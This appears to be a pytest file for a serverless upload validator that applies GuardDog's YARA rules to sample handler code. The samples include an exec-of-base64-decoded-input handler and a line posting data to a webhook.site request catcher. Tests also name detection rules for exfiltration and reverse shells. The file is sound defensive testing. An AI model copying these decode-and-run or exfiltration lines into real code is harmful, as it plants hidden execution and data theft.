"""GuardDog's maintained YARA rules, as the static stage applies them.

The samples are written here (never taken from GuardDog's own tests); each is matched by
the rules of the installed ``guarddog`` package, not by a copy.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from sless.config import LLMSettings, ValidationSettings
from sless.validation import caching, guarddog, scoring
from sless.validation.pipeline import Validator
from sless.validation.report import Verdict, strictest

#: decodes and runs a payload: GuardDog's threat-runtime-obfuscation-base64exec
DECODE_AND_RUN = b"import base64\n\ndef handle(event):\n    exec(base64.b64decode(event['p']))\n"
#: spawns a process: GuardDog's capability-process-spawn, a capability
SPAWNS = b"import subprocess\n\ndef handle(event):\n    return subprocess.run(['date'])\n"
#: reads its declared API key: GuardDog's threat-runtime-environment-read
READS_KEY = b"import os\n\nKEY = os.environ['WEATHER_API_KEY']\n"


def _by_rule(rel: str, data: bytes) -> dict[str, list[tuple[int | None, Verdict, str | None]]]:
    found: dict[str, list[tuple[int | None, Verdict, str | None]]] = {}
    for f in guarddog.scan_text(rel, data):
        assert f.source == "static"
        found.setdefault(f.rule, []).append((f.line, f.severity, f.evidence))
    return found


def test_a_threat_rule_holds_for_review_with_file_line_and_evidence() -> None:
    found = _by_rule("handler.py", DECODE_AND_RUN)
    hits = found["guarddog-threat-runtime-obfuscation-base64exec"]
    assert {line for line, _, _ in hits} == {4}, "the line of the code, not of a line break"
    assert all(severity is Verdict.REVIEW for _, severity, _ in hits)
    assert any(evidence and "b64decode" in evidence for _, _, evidence in hits)


def test_a_capability_rule_is_a_note() -> None:
    found = _by_rule("handler.py", SPAWNS)
    assert found["guarddog-capability-process-spawn"] == [(4, Verdict.ALLOW, "subprocess.run")]


def test_reading_a_declared_secret_is_a_note_not_a_threat() -> None:
    hits = guarddog.scan_text("handler.py", READS_KEY)
    assert [f.rule for f in hits] == ["guarddog-threat-runtime-environment-read"]
    assert hits[0].severity is Verdict.ALLOW
    assert "a note" in hits[0].message


def test_the_policy_is_by_class() -> None:
    assert guarddog.severity("threat-network-reverse-shell") is Verdict.REVIEW
    assert guarddog.severity("capability-network-outbound") is Verdict.ALLOW
    assert guarddog.severity("threat-runtime-environment-read") is Verdict.ALLOW


def test_a_whole_line_comment_is_not_code() -> None:
    assert guarddog.scan_text("handler.py", b"# exec(base64.b64decode(p))\n") == []


def test_a_rule_reads_only_the_files_it_was_written_for() -> None:
    # the JavaScript/Python rules name their suffixes; a .txt file is not one of them
    assert _by_rule("notes.txt", DECODE_AND_RUN) == {}
    assert "guarddog-threat-runtime-obfuscation-base64exec" in _by_rule("x/y.py", DECODE_AND_RUN)


def test_the_rules_come_from_the_installed_package_without_importing_it() -> None:
    guarddog.scan_text("handler.py", SPAWNS)
    # importing guarddog starts its metadata heuristics, which go to the network
    assert "guarddog" not in sys.modules
    assert guarddog.version() == "3.2.0"


def test_files_are_read_capped_from_the_upload(tmp_path: Path) -> None:
    (tmp_path / "handler.py").write_bytes(DECODE_AND_RUN)
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "run.py").write_bytes(SPAWNS)
    rules = {(f.file, f.rule) for f in guarddog.scan_files(tmp_path, ["handler.py", "lib/run.py"])}
    assert ("handler.py", "guarddog-threat-runtime-obfuscation-base64exec") in rules
    assert ("lib/run.py", "guarddog-capability-process-spawn") in rules


def _fingerprint() -> str:
    return Validator(ValidationSettings(), LLMSettings()).fingerprint


def test_another_guarddog_version_is_another_cache_key(monkeypatch: pytest.MonkeyPatch) -> None:
    before_files, before_reports = caching.analysis_fingerprint(), _fingerprint()
    caching.analysis_fingerprint.cache_clear()
    guarddog.fingerprint.cache_clear()
    monkeypatch.setattr(guarddog, "version", lambda: "3.3.0")
    try:
        assert caching.analysis_fingerprint() != before_files, "per-file results reused"
        assert _fingerprint() != before_reports, "a report made by 3.2.0 would be served"
    finally:
        monkeypatch.undo()
        caching.analysis_fingerprint.cache_clear()
        guarddog.fingerprint.cache_clear()
    assert caching.analysis_fingerprint() == before_files


def test_guarddogs_notes_do_not_add_up_to_a_hold() -> None:
    notes = [
        f
        for data in (SPAWNS, READS_KEY, b"import requests\nrequests.get('https://example.com')\n")
        for f in guarddog.scan_text("handler.py", data)
    ]
    assert len({f.rule for f in notes}) >= scoring.REVIEW_AT
    assert all(f.severity is Verdict.ALLOW for f in notes)
    assert strictest(scoring.score(notes)) is Verdict.ALLOW


def test_a_messenger_api_is_a_note_a_request_catcher_is_held() -> None:
    bot = b"import requests\nURL = 'https://api.telegram.org/bot{token}/sendMessage'\n"
    catcher = b"import requests\nrequests.post('https://abc.webhook.site/x', data=d)\n"
    on_bot = guarddog.scan_text("handler.py", bot)
    assert {f.rule for f in on_bot} >= {
        "guarddog-threat-network-exfiltration",
        "guarddog-threat-network-exfil-messenger",
    }
    assert all(f.severity is Verdict.ALLOW for f in on_bot), on_bot
    held = {
        f.rule for f in guarddog.scan_text("handler.py", catcher) if f.severity is Verdict.REVIEW
    }
    assert "guarddog-threat-network-exfiltration" in held
